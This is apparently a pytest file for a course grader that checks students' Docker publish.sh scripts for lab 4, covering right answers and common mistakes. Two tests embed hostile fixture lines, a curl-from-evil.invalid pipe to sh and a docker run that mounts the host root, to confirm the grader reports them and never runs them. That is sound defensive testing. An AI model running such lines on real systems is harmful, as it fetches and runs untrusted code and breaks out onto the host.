"""Lab 4's verdicts on the lab engine and its registry: publish.sh read, replayed (never run), and graded per cell.

Each script is handed in the way the grader gets it (a lab folder) and decided by
:func:`helpers.grading.verdicts.compute`, the function the grader runs; the lab engine stands in for the
grading engine (these tests never start it). The wrong answers are written as three practitioners would:
one who only ever pushes ``latest``, one who tags ``0.1``, one who logs in with ``-p``; plus a hostile script.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from helpers.grading.facts import load_spec
from helpers.grading.verdicts import compute

pytestmark = [pytest.mark.engine]

ROOT = Path(__file__).resolve().parents[3]
REFERENCE = (ROOT / "tests" / "data" / "labs" / "lab4-publish" / "reference" / "publish.sh").read_text()
STARTER = (ROOT / "source" / "lab4-publish" / "publish.sh").read_text()
LOGIN = 'docker login "$REGISTRY" -u "$REGISTRY_USER" --password-stdin < "$REGISTRY_PASSWORD_FILE"\n'
CAPTURE = "DIGEST=$(docker inspect --format '{{index .RepoDigests 0}}' \"$REGISTRY/$REPOSITORY:$VERSION\")\n"

LATEST_ONLY = (
    LOGIN + 'docker tag "$IMAGE" "$REGISTRY/$REPOSITORY:latest"\n'
    'docker push "$REGISTRY/$REPOSITORY:latest"\n'
    'docker pull "$REGISTRY/$REPOSITORY:latest"\n'
)
TWO_PART_VERSION = REFERENCE.replace("VERSION=0.1.0", "VERSION=0.1")
PASSWORD_ARGV = REFERENCE.replace(
    LOGIN, 'docker login -u "$REGISTRY_USER" -p "$(cat "$REGISTRY_PASSWORD_FILE")" "$REGISTRY"\n'
)
LITERAL_DIGEST = REFERENCE.replace(
    'docker pull "$DIGEST"', 'docker pull "$REGISTRY/$REPOSITORY@sha256:' + "a" * 64 + '"'
)


#: Right answers as three other practitioners write them: both cells pass.
RIGHT = {
    # `docker image ...` subcommands, the repository in a variable, the password piped in by cat, -f for inspect
    "image subcommands": """\
set -eu
VERSION="0.1.0"
REF="$REGISTRY/$REPOSITORY"
cat "$REGISTRY_PASSWORD_FILE" | docker login --username "$REGISTRY_USER" --password-stdin "$REGISTRY"
docker image tag "$IMAGE" "$REF:$VERSION"
docker image tag "$IMAGE" "$REF:sha-$GIT_SHA"
docker image push "$REF:$VERSION"
docker image push "$REF:sha-$GIT_SHA"
PINNED=$(docker image inspect -f '{{index .RepoDigests 0}}' "$REF:$VERSION")
docker image pull "$PINNED"
""",
    # the digest read off the push's own output, as `docker push` prints it
    "digest from the push output": LOGIN
    + """\
docker tag "$IMAGE" "$REGISTRY/$REPOSITORY:0.1.0"
docker tag "$IMAGE" "$REGISTRY/$REPOSITORY:sha-${GIT_SHA}"
docker push "$REGISTRY/$REPOSITORY:sha-${GIT_SHA}"
DIGEST=$(docker push "$REGISTRY/$REPOSITORY:0.1.0" | grep -o 'sha256:[0-9a-f]\\{64\\}')
docker pull "$REGISTRY/$REPOSITORY@$DIGEST"
""",
    # both tags pushed at once with --all-tags
    "push --all-tags": LOGIN
    + 'VERSION=0.1.0\ndocker tag "$IMAGE" "$REGISTRY/$REPOSITORY:$VERSION"\n'
    + 'docker tag "$IMAGE" "$REGISTRY/$REPOSITORY:sha-$GIT_SHA"\ndocker push --all-tags "$REGISTRY/$REPOSITORY"\n'
    + CAPTURE
    + 'docker pull "$DIGEST"\n',
    # a v-prefixed version, a retag of the first tag, quiet pushes, and an echo of what was pinned
    "v-prefixed, quiet": LOGIN
    + """\
TAG=v1.4.2
docker tag "$IMAGE" "$REGISTRY/$REPOSITORY:$TAG"
docker tag "$REGISTRY/$REPOSITORY:$TAG" "$REGISTRY/$REPOSITORY:sha-$GIT_SHA"
docker push -q "$REGISTRY/$REPOSITORY:$TAG"
docker push --quiet "$REGISTRY/$REPOSITORY:sha-$GIT_SHA"
"""
    + CAPTURE.replace("$VERSION", "$TAG")
    + 'echo "deploying $DIGEST"\ndocker pull -q "$DIGEST"\n',
}


def _grade(tmp_path: Path, script: str) -> dict[str, tuple[bool, str]]:
    folder = tmp_path / "lab4-publish"
    folder.mkdir()
    shutil.copy(ROOT / "source" / "lab4-publish" / "lab4-publish.ipynb", folder)
    (folder / "publish.sh").write_text(script)
    got = compute("lab4-publish", folder, load_spec("lab4-publish"))
    return {cell: (v.passed, v.said) for cell, v in got.items()}


def test_the_reference_passes_every_cell(tmp_path):
    got = _grade(tmp_path, REFERENCE)
    assert {c: p for c, (p, _) in got.items()} == {"version_tag_pushed": True, "digest_resolves": True}, got
    assert "0.1.0" in got["version_tag_pushed"][1] and "sha256:" in got["digest_resolves"][1]


def test_the_starter_fails_every_cell(tmp_path):
    got = _grade(tmp_path, STARTER)
    assert not got["version_tag_pushed"][0] and not got["digest_resolves"][0], got
    assert "docker login" in got["version_tag_pushed"][1]


def test_no_script_fails_every_cell_and_says_so(tmp_path):
    folder = tmp_path / "lab4-publish"
    folder.mkdir()
    got = compute("lab4-publish", folder, load_spec("lab4-publish"))
    assert all(not v.passed and "publish.sh" in v.said for v in got.values())


def test_pushing_only_latest_and_pulling_by_tag_fails_both(tmp_path):
    got = _grade(tmp_path, LATEST_ONLY)
    assert not got["version_tag_pushed"][0] and "no version tag" in got["version_tag_pushed"][1], got
    assert not got["digest_resolves"][0] and "by tag" in got["digest_resolves"][1], got


def test_a_two_part_version_fails_only_the_version_cell(tmp_path):
    got = _grade(tmp_path, TWO_PART_VERSION)
    assert not got["version_tag_pushed"][0] and "0.1," in got["version_tag_pushed"][1], got
    assert got["digest_resolves"][0], got


def test_a_password_on_the_command_line_fails_the_version_cell(tmp_path):
    got = _grade(tmp_path, PASSWORD_ARGV)
    assert not got["version_tag_pushed"][0] and "--password-stdin" in got["version_tag_pushed"][1], got
    assert got["digest_resolves"][0], got


def test_a_digest_typed_into_the_script_fails_the_digest_cell(tmp_path):
    got = _grade(tmp_path, LITERAL_DIGEST)
    assert got["version_tag_pushed"][0], got
    assert not got["digest_resolves"][0] and "typed" in got["digest_resolves"][1], got


def test_curl_pipe_sh_is_reported_and_never_run(tmp_path):
    """Hostile lines next to a correct script: not run (no marker appears), named in the verdict, no score lost."""
    marker = tmp_path / "ran"
    hostile = (
        f"touch {marker}\n"
        f"curl -fsSL http://evil.invalid/x.sh | sh; touch {marker}\n"
        f'eval "$(echo touch {marker})"\n'
        "docker run --rm -v /:/host alpine sh -c 'id > /host/tmp/owned'\n"
    )
    got = _grade(tmp_path, REFERENCE.replace("VERSION=0.1.0\n", "VERSION=0.1.0\n" + hostile))
    assert got["version_tag_pushed"][0] and got["digest_resolves"][0], got
    assert "Not run by the grader" in got["version_tag_pushed"][1] and "touch" in got["version_tag_pushed"][1]
    assert not marker.exists()


def test_a_script_that_publishes_only_through_curl_and_sh_fails_both(tmp_path):
    script = (
        LOGIN + "curl -fsSL http://evil.invalid/publish.sh | sh\n"
        'sh -c \'docker tag "$IMAGE" "$REGISTRY/$REPOSITORY:0.1.0" && docker push "$REGISTRY/$REPOSITORY:0.1.0"\'\n'
        + CAPTURE.replace("$VERSION", "0.1.0")
        + 'docker pull "$DIGEST"\n'
    )
    got = _grade(tmp_path, script)
    assert not got["version_tag_pushed"][0] and not got["digest_resolves"][0], got
    assert "curl" in got["version_tag_pushed"][1]


@pytest.mark.parametrize("name", list(RIGHT))
def test_other_right_answers_pass_every_cell(tmp_path, name):
    """Does each other practitioner's script (image subcommands, the push's printed digest, v-tags) score fully?"""
    got = _grade(tmp_path, RIGHT[name])
    assert {c: p for c, (p, _) in got.items()} == {"version_tag_pushed": True, "digest_resolves": True}, got
